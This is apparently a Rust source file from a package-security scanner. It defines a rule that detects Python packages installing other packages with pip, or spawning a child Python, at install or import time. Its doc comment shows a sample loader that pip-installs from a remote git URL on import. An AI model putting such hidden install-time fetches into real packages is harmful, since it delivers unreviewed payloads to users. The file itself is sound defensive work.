use ossprey_model::{Category, Finding, Severity};
use ossprey_static::analysis::RunsAt;
use ossprey_static::facts::{Arg, Call};

use super::common::{
    Liveness, command_of, in_install_method, is_process_exec, is_test_path, python_sources,
};
use crate::{Input, Rule, finding};

/// ## What it does
/// Finds code that runs by itself at install or import time (module level of
/// `setup.py` or an imported module, functions that code calls, `cmdclass`
/// methods) and installs other packages with pip (`os.system("pip install x")`,
/// `subprocess.call([sys.executable, "-m", "pip", "install", x])`,
/// `pip.main(["install", x])`), or starts another Python to import a module
/// (`Popen(["python", "-c", "import other"])`). Installing from a URL or git
/// repository, or doing so in a package whose name imitates a popular one, is
/// critical.
///
/// ## Why is this bad?
/// Dependencies belong in `install_requires`, where the user and the resolver
/// see them. A package that quietly pip-installs something when imported or
/// built fetches code nobody reviewed — often the real payload, kept in a
/// second package or a repository so the first looks clean — and a hidden child
/// Python that imports another module is how such loaders start it detached.
///
/// ## Example
/// ```python
/// import subprocess
/// def _ensure():
///     subprocess.run(["pip", "install", "git+https://example.invalid/x.git"])
/// _ensure()
/// ```
#[derive(Debug)]
pub struct CodePipInstall;

/// What the call does, when it installs packages or runs Python on an import.
fn what(call: &Call) -> Option<&'static str> {
    if matches!(
        call.callee.as_str(),
        "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main"
    ) {
        let installs = matches!(call.args.first(), Some(Arg::List(items))
            if matches!(items.first(), Some(Arg::Str(s)) if s == "install"));
        return installs.then_some("installs packages with pip");
    }
    if !is_process_exec(&call.callee) {
        return None;
    }
    let text = command_of(call)
        .text()
        .map(str::to_owned)
        .unwrap_or_default();
    // Also the snippet: `f"pip install {name}"` is not a literal.
    let hay = format!("{text} {}", call.snippet).to_ascii_lowercase();
    let squeezed: String = hay
        .chars()
        .filter(|c| !matches!(c, '\'' | '"' | ',' | '[' | ']'))
        .collect::<String>()
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ");
    if let Some(at) = squeezed
        .find("pip install ")
        .or_else(|| squeezed.find("pip3 install "))
    {
        // `pip install .`, `pip install -e ./sub`: the package itself, not
        // another one.
        let targets: Vec<&str> = squeezed
            .get(at..)
            .unwrap_or_default()
            .split_whitespace()
            .skip(2)
            // The snippet follows the command text: stop at the call.
            .take_while(|w| !w.contains('('))
            .map(|w| w.trim_end_matches(')'))
            .filter(|w| !w.is_empty() && !w.starts_with('-'))
            .collect();
        if targets
            .iter()
            .all(|w| w.starts_with('.') || w.starts_with('/'))
            && !targets.is_empty()
        {
            return None;
        }
        return Some("installs packages with pip");
    }
    let python = squeezed.contains("python") || squeezed.contains("sys.executable");
    if python && (squeezed.contains("-c import ") || squeezed.contains("-c from ")) {
        return Some("starts another Python that imports a module");
    }
    None
}

impl Rule for CodePipInstall {
    fn id(&self) -> &'static str {
        "PY-CODE-PIP-INSTALL"
    }
    fn category(&self) -> Category {
        Category::EXECUTION
    }
    fn summary(&self) -> &'static str {
        "pip install or a child Python run by install- or import-time code"
    }
    fn check(&self, input: &Input<'_>, out: &mut Vec<Finding>) {
        let squat = input.metadata.typosquat.is_some();
        for (file, source) in python_sources(input) {
            if file.runs_at == RunsAt::Runtime || is_test_path(&file.path) {
                continue;
            }
            let live = Liveness::of(file, source, input, &Default::default());
            for call in &source.calls {
                let cmdclass_method = in_install_method(file, call);
                if !(live.runs(call) || cmdclass_method) {
                    continue;
                }
                let Some(what) = what(call) else { continue };
                let lower = call.snippet.to_ascii_lowercase();
                let remote = lower.contains("git+")
                    || lower.contains("http://")
                    || lower.contains("https://");
                let severity = if remote || squat {
                    Severity::Critical
                } else {
                    Severity::High
                };
                let when = if file.runs_at == RunsAt::Install {
                    "install"
                } else {
                    "import"
                };
                out.push(finding(
                    self.id(),
                    severity,
                    self.category(),
                    format!(
                        "`{}` {what} at {when} time{}",
                        call.callee,
                        if remote { ", from a URL" } else { "" }
                    ),
                    Some(&file.path),
                    Some(call.line),
                    Some(&call.snippet),
                ));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(snippet: &str, args: Vec<Arg>) -> Call {
        Call {
            callee: "os.system".into(),
            args,
            kwargs: Vec::new(),
            line: 1,
            scope: None,
            snippet: snippet.into(),
        }
    }

    #[test]
    fn installing_the_package_itself_is_not_reported() {
        let own = call(
            "os.system('pip install .')",
            vec![Arg::Str("pip install .".into())],
        );
        assert_eq!(what(&own), None);
        let other = call(
            "os.system('pip install requests')",
            vec![Arg::Str("pip install requests".into())],
        );
        assert!(what(&other).is_some());
        let dynamic = call("os.system(f'pip install {name}')", vec![Arg::Other]);
        assert!(what(&dynamic).is_some());
    }
}
